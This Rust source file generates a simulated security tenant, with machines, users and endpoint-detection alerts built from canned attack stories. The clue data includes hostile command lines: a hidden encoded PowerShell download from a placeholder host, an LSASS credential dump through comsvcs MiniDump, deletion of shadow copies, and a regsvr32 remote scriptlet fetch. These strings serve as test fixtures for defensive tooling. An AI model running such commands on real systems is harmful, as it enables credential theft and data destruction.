//! A believable population: machines, people, and alerts that tell what happened to them. The same seed, the same
//! tenant.

use chrono::{DateTime, TimeDelta, Utc};
use fastrand::Rng;

/// A remark on an alert.
#[derive(Debug, Clone)]
pub(crate) struct Remark {
    pub(crate) text: String,
    pub(crate) by: String,
    pub(crate) at: DateTime<Utc>,
}

/// One alert as the tenant keeps it.
#[derive(Debug, Clone)]
pub(crate) struct AlertRecord {
    pub(crate) id: String,
    pub(crate) incident: i64,
    pub(crate) story: &'static Story,
    pub(crate) machine: usize,
    pub(crate) user: usize,
    pub(crate) severity: &'static str,
    pub(crate) status: String,
    pub(crate) classification: Option<String>,
    pub(crate) determination: Option<String>,
    pub(crate) assigned_to: Option<String>,
    pub(crate) created: DateTime<Utc>,
    pub(crate) updated: DateTime<Utc>,
    pub(crate) resolved: Option<DateTime<Utc>>,
    pub(crate) remarks: Vec<Remark>,
    /// What it was before the last write.
    pub(crate) before: Option<Box<Self>>,
    /// Feeds the details that are rendered on demand: process ids, hashes.
    pub(crate) grain: u64,
}

impl AlertRecord {
    /// When the last event happened that it is about.
    pub(crate) fn last_event(&self) -> DateTime<Utc> {
        self.created - TimeDelta::seconds(61)
    }

    /// The number of its automated investigation, which some have.
    pub(crate) fn investigation(&self) -> Option<i64> {
        self.grain.is_multiple_of(3).then_some(i64::try_from(self.grain % 90_000).unwrap_or_default())
    }
}

/// What happened: the fixed part of an alert.
#[derive(Debug)]
pub(crate) struct Story {
    pub(crate) title: &'static str,
    pub(crate) description: &'static str,
    pub(crate) category: &'static str,
    pub(crate) severity: &'static str,
    pub(crate) source: &'static str,
    pub(crate) techniques: &'static [&'static str],
    pub(crate) threat: Option<(&'static str, &'static str)>,
    pub(crate) clues: &'static [Clue],
}

/// A piece of evidence of a story.
#[derive(Debug)]
pub(crate) enum Clue {
    User,
    /// Image, folder, command line, parent image.
    Process(&'static str, &'static str, &'static str, &'static str),
    /// Name, folder.
    File(&'static str, &'static str),
    Ip(&'static str),
    Url(&'static str),
    /// Hive, key, value name, value.
    Registry(&'static str, &'static str, &'static str, &'static str),
}

const SYSTEM: &str = "C:\\Windows\\System32";
const TEMP: &str = "C:\\Users\\Public\\Downloads";

/// The stories, from the first foothold to the ransom note.
pub(crate) static STORIES: &[Story] = &[
    Story {
        title: "Suspicious PowerShell download from an Office document",
        description: "A document opened by the user started PowerShell, which fetched and ran code from an address that few organizations talk to.\n\nThis is how many intrusions begin. Check what the downloaded code did next, and whether other people received the same document.",
        category: "InitialAccess",
        severity: "High",
        source: "WindowsDefenderAtp",
        techniques: &["T1566.001", "T1059.001"],
        threat: None,
        clues: &[
            Clue::User,
            Clue::Process(
                "powershell.exe",
                SYSTEM,
                "powershell.exe -nop -w hidden -enc SQBFAFgA",
                "WINWORD.EXE",
            ),
            Clue::File("invoice-7731.docm", TEMP),
            Clue::Url("http://cdn.invoice-portal.example/a.ps1"),
            Clue::Ip("203.0.113.77"),
        ],
    },
    Story {
        title: "Credential dumping from the memory of LSASS",
        description: "A process read the memory of the local security authority, where the credentials of signed-in users are kept. Attackers do this to move on with other people's rights.\n\nReset the passwords of everybody who was signed in, and look for sign-ins from unusual places.",
        category: "CredentialAccess",
        severity: "High",
        source: "WindowsDefenderAtp",
        techniques: &["T1003.001"],
        threat: None,
        clues: &[
            Clue::User,
            Clue::Process(
                "rundll32.exe",
                SYSTEM,
                "rundll32.exe comsvcs.dll, MiniDump 712 C:\\ProgramData\\d.dmp full",
                "cmd.exe",
            ),
            Clue::File("d.dmp", "C:\\ProgramData"),
        ],
    },
    Story {
        title: "Remote service created on another machine",
        description: "A service was created over the network with an administrative account, and started a program from a hidden share. Administrators do this rarely, attackers often.",
        category: "LateralMovement",
        severity: "Medium",
        source: "WindowsDefenderAtp",
        techniques: &["T1021.002", "T1569.002"],
        threat: None,
        clues: &[
            Clue::User,
            Clue::Process("services.exe", SYSTEM, "services.exe", "wininit.exe"),
            Clue::Process("updsvc.exe", "C:\\Windows", "C:\\Windows\\updsvc.exe -k", "services.exe"),
            Clue::Ip("10.20.4.15"),
        ],
    },
    Story {
        title: "'Quakben' malware was prevented",
        description: "Malware was found and stopped before it ran. Find out how it came in; what was stopped here may run elsewhere.",
        category: "Malware",
        severity: "Informational",
        source: "WindowsDefenderAv",
        techniques: &[],
        threat: Some(("Trojan:Win32/Quakben.A", "Quakben")),
        clues: &[Clue::File("setup_free.exe", TEMP)],
    },
    Story {
        title: "Run key added by a script host",
        description: "A script added a program to the list of those that start when the user signs in.",
        category: "Persistence",
        severity: "Medium",
        source: "WindowsDefenderAtp",
        techniques: &["T1547.001"],
        threat: None,
        clues: &[
            Clue::User,
            Clue::Process("wscript.exe", SYSTEM, "wscript.exe \"C:\\Users\\Public\\it.js\"", "explorer.exe"),
            Clue::Registry(
                "HKEY_CURRENT_USER",
                "S-1-5-21-1\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                "OneDrive Helper",
                "C:\\Users\\Public\\it.js",
            ),
        ],
    },
    Story {
        title: "Connection to a command and control address",
        description: "The machine talks at regular intervals to an address known to steer malware.",
        category: "CommandAndControl",
        severity: "Medium",
        source: "CustomTI",
        techniques: &["T1071.001", "T1573"],
        threat: None,
        clues: &[
            Clue::Process("svchost.exe", TEMP, "svchost.exe -k netsvcs", "explorer.exe"),
            Clue::Ip("198.51.100.23"),
            Clue::Url("https://198.51.100.23/submit.php"),
        ],
    },
    Story {
        title: "Ransomware behavior: many files renamed with one new ending",
        description: "Hundreds of files were rewritten and renamed within minutes, and copies that Windows keeps were deleted.\n\nIsolate the machine now. Then find the first machine it happened on.",
        category: "Impact",
        severity: "High",
        source: "WindowsDefenderAtp",
        techniques: &["T1486", "T1490"],
        threat: Some(("Ransom:Win32/Lokdon.B", "Lokdon")),
        clues: &[
            Clue::User,
            Clue::Process("vssadmin.exe", SYSTEM, "vssadmin.exe delete shadows /all /quiet", "cmd.exe"),
            Clue::Process("lok.exe", TEMP, "lok.exe --fast", "cmd.exe"),
            Clue::File("HOW_TO_RECOVER.txt", "C:\\Users\\Public\\Desktop"),
        ],
    },
    Story {
        title: "Port scan of the internal network",
        description: "The machine tried many ports of many neighbours within a short time.",
        category: "Discovery",
        severity: "Low",
        source: "WindowsDefenderAtp",
        techniques: &["T1046"],
        threat: None,
        clues: &[Clue::Process("nmap", "/usr/bin", "nmap -sS 10.20.0.0/16", "bash"), Clue::Ip("10.20.4.1")],
    },
    Story {
        title: "Unusual volume of data sent to a file-sharing site",
        description: "Far more data than usual left the machine for a site where anybody can store files.",
        category: "Exfiltration",
        severity: "Medium",
        source: "WindowsDefenderAtp",
        techniques: &["T1567.002"],
        threat: None,
        clues: &[Clue::User, Clue::Url("https://files.example/upload"), Clue::File("q3.7z", TEMP)],
    },
    Story {
        title: "Suspicious activity of a signed system tool",
        description: "A tool that belongs to the system was used in a way it is seldom meant for.",
        category: "SuspiciousActivity",
        severity: "Low",
        source: "WindowsDefenderAtp",
        techniques: &["T1218.011"],
        threat: None,
        clues: &[
            Clue::User,
            Clue::Process(
                "regsvr32.exe",
                SYSTEM,
                "regsvr32.exe /s /n /u /i:http://x.example scrobj.dll",
                "cmd.exe",
            ),
        ],
    },
];

pub(crate) static GROUPS: &[&str] = &["Servers", "Workstations", "Executives"];
pub(crate) static PEOPLE: &[(&str, &str)] = &[
    ("ada.byron", "Ada Byron"),
    ("c.shannon", "Claude Shannon"),
    ("g.hopper", "Grace Hopper"),
    ("k.johnson", "Katherine Johnson"),
    ("m.hamilton", "Margaret Hamilton"),
    ("r.perlman", "Radia Perlman"),
    ("svc-backup", "Backup service"),
    ("j.o'hara", "Jamie O'Hara"),
];

/// A machine of the tenant.
#[derive(Debug, Clone)]
pub(crate) struct Machine {
    pub(crate) id: String,
    pub(crate) name: String,
    pub(crate) group: &'static str,
}

/// Forty hexadecimal digits of a number, or as many as asked for.
pub(crate) fn hex(seed: u64, digits: usize) -> String {
    let mut rng = Rng::with_seed(seed);
    (0..digits).map(|_| char::from(b"0123456789abcdef"[rng.usize(..16)])).collect()
}

pub(crate) fn machines(seed: u64) -> Vec<Machine> {
    let kinds = ["ws", "srv", "lap", "dc", "web", "sql"];
    (0..24_u64)
        .map(|n| {
            let index = usize::try_from(n).unwrap_or_default();
            Machine {
                id: hex(seed ^ (n + 1).wrapping_mul(0x9E37_79B9_7F4A_7C15), 40),
                name: format!("{}-{:03}.corp.contoso.example", kinds[index % kinds.len()], n + 1),
                group: GROUPS[index % GROUPS.len()],
            }
        })
        .collect()
}

/// Alerts of the thirty days before `now`, newest first.
pub(crate) fn alerts(seed: u64, count: usize, machines: usize, now: DateTime<Utc>) -> Vec<AlertRecord> {
    let mut rng = Rng::with_seed(seed);
    let mut created = now - TimeDelta::minutes(7);
    let step = TimeDelta::days(30) / i32::try_from(count.max(1)).unwrap_or(i32::MAX);
    (0..count)
        .map(|n| {
            let record = alert(&mut rng, n, machines, created, now);
            created -= step
                - TimeDelta::microseconds(rng.i64(0..1_000_000).min(step.num_microseconds().unwrap_or(0)));
            record
        })
        .collect()
}

fn alert(
    rng: &mut Rng,
    n: usize,
    machines: usize,
    created: DateTime<Utc>,
    now: DateTime<Utc>,
) -> AlertRecord {
    // The first of each story come in order, so that small tenants show all of them.
    let story = &STORIES[if n < STORIES.len() { n } else { rng.usize(..STORIES.len()) }];
    // Whole ticks of 100 ns, as the service counts them. The id does not depend on when the tenant was made: the same
    // seed gives the same ids in every run.
    let created = DateTime::from_timestamp_nanos((created.timestamp_micros() * 10 + rng.i64(0..10)) * 100);
    let ticks =
        637_472_900_000_000_000 + i64::try_from(n).unwrap_or_default() * 10_000_000 + rng.i64(0..10_000_000);
    let updated = (created + TimeDelta::seconds(rng.i64(2..20_000))).min(now).max(created);
    let (status, classification, determination, assigned_to) = match rng.u8(..10) {
        0..=5 => ("New", None, None, None),
        6..=7 => ("InProgress", None, None, Some("analyst@contoso.example")),
        8 => ("Resolved", Some("TruePositive"), Some("Malware"), Some("analyst@contoso.example")),
        _ => ("Resolved", Some("FalsePositive"), Some("NotMalicious"), Some("Automation")),
    };
    let remarks = if status == "Resolved" {
        vec![Remark {
            text: "Closed after review.".into(),
            by: "analyst@contoso.example".into(),
            at: updated,
        }]
    } else {
        Vec::new()
    };
    AlertRecord {
        id: format!("da{ticks}_{}", rng.i32(..)),
        incident: 4000 + i64::try_from(n / 3).unwrap_or_default(),
        story,
        machine: rng.usize(..machines.max(1)),
        user: rng.usize(..PEOPLE.len()),
        severity: if rng.u8(..50) == 0 { "UnSpecified" } else { story.severity },
        status: status.into(),
        classification: classification.map(Into::into),
        determination: determination.map(Into::into),
        assigned_to: assigned_to.map(Into::into),
        created,
        updated,
        resolved: (status == "Resolved").then_some(updated),
        remarks,
        before: None,
        grain: rng.u64(..),
    }
}
